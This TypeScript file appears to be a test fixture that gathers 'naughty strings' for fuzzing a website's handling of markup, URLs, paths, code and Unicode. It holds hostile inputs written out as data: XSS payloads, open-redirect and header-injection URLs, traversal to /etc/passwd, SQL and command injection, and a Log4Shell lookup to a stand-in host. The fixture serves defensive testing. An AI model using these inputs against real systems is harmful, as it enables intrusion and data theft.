/** Markup has the word "pwn", which a test finds where it comes through. */
const markup = [
  ...split(String.raw`
    <pwn> "><pwn> '><pwn> </script><pwn> <script>pwn()</script> </title><pwn> --><pwn> ]]><pwn>
    <svg/onload=pwn()> javascript:pwn() jAvAsCrIpT:pwn() data:text/html,<pwn> vbscript:pwn()
    <!--<pwn> <![CDATA[<pwn>]]> <style>pwn{}</style> &lt;pwn&gt; &#60;pwn&#62; %3Cpwn%3E
    %253Cpwn%253E <pwn/ <<pwn>> {{pwn}} #{pwn} {%pwn%} \u003cpwn\u003e ＜pwn＞
    <pwn␣onload=pwn()> "␣onpwn="pwn() '␣onpwn='pwn() <img␣src=x␣onerror=pwn()>
    <iframe␣srcdoc="<pwn>"> <a␣href="javascript:pwn()"> <base␣href="//pwn.example">
    <meta␣http-equiv=refresh␣content=0;//pwn.example>
  `),
  ['` onpwn=`pwn()', 'java\tscript:pwn()', '<pwn\u0000>', '<\u0000pwn>', '${pwn()}'],
]

const addresses = [
  ...split(String.raw`
    //pwn.example ///pwn.example /%2f%2fpwn.example /%5cpwn.example https://pwn.example
    https:pwn.example http:///pwn.example //pwn.example/%2f.. /.pwn.example //pwn.example@localhost
    @pwn.example :80 ?//pwn.example #//pwn.example /;@pwn.example //[::1] //0x7f000001
    %0d%0aSet-Cookie:pwn=1 %E5%98%8A%E5%98%8DSet-Cookie:pwn=1 file:///etc/passwd ftp://pwn.example
    blob:x about:blank /\pwn.example \\pwn.example
  `),
  ['/\t/pwn.example', '/\n/pwn.example', '\r\nLocation: //pwn.example'],
]

const paths = split(String.raw`
  ../../../etc/passwd ..\..\..\windows\win.ini ..%2f..%2f..%2fetc%2fpasswd
  %2e%2e/%2e%2e/package.json %252e%252e%252fpackage.json ....//....//package.json
  ..;/package.json ..%00/package.json ..%c0%af..%c0%afetc/passwd .env .git/config
  .vite/manifest.json _headers assets/../../server/node.js assets/%2e%2e/%2e%2e/server/node.js
  index.html index.html/ index.html.br 404.html CON NUL.txt aux C:\ ~root a/./b/../c /./. /..
  /... node_modules/react/package.json wp-admin/setup-config.php restaurants/index.html
  blog/../restaurants blog//spice-route-guide
`)

const code = [
  ...split(String.raw`
    admin'-- $(id) {"$gt":""} __proto__ constructor prototype toString valueOf hasOwnProperty
    __defineGetter__ __proto__[pwn] constructor.prototype.pwn then undefined null NaN true false
    (a+)+$ ^(([a-z])+.)+[A-Z]([a-z])+$ .* [ ( * % %% %s%s%s%n %d {0} *)(uid=*))(|(uid=*
    '␣OR␣'1'='1 1;␣DROP␣TABLE␣restaurants &&␣id ()␣{␣:;};␣id [object␣Object]
  `),
  '`id`',
  '${jndi:ldap://pwn.example/a}',
  '\\',
]

const numbers = split(String.raw`
  0 -0 1 -1 1.0 1e3 1e999 0x10 0b1 007 123 9007199254740993 99999999999999999999
  -9223372036854775808 Infinity -Infinity 1,000 1.000,00 １２３ ٣ ½ 662E41 2025-13-45 1/0
`)

const characters = [
  ...split(String.raw`
    é ß İ ı ſ Å ਪੰਜਾਬ தோசை עברית العربية Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞a̴̡l̶g̵o̷ % %E0 %E0%A4%A %C0%80 %FF %ED%A0%80
    %u003C + %20 %2B & && = == ; # %23 😀 👩‍👩‍👧‍👦 🏳️‍🌈 ﬁ दाल␣मखनी
  `),
  ['', '   ', '\r\n', '\u001b[31m', '\u202e gnirts', '\udc00\ud800', 'e\u0301'],
  ...split(
    '9 a 0 1 7f 85 a0 1680 180e 2028 2029 200b 200d 2066 feff fffd fffe ffff d800 dfff d83d',
  ).map((hex) => String.fromCharCode(Number.parseInt(hex, 16))),
]

const long = [
  'a'.repeat(121),
  'a'.repeat(5_000),
  '%20'.repeat(300),
  '&a=b'.repeat(500),
  'e\u0301'.repeat(300),
  '<pwn>'.repeat(200),
]

/** In a word, ␣ means a space. */
function split(words: string): string[] {
  return Array.from(words.matchAll(/\S+/g), ([word]) => word.replaceAll('␣', ' '))
}

export const naughtyStrings = [markup, addresses, paths, code, numbers, characters, long].flat(2)
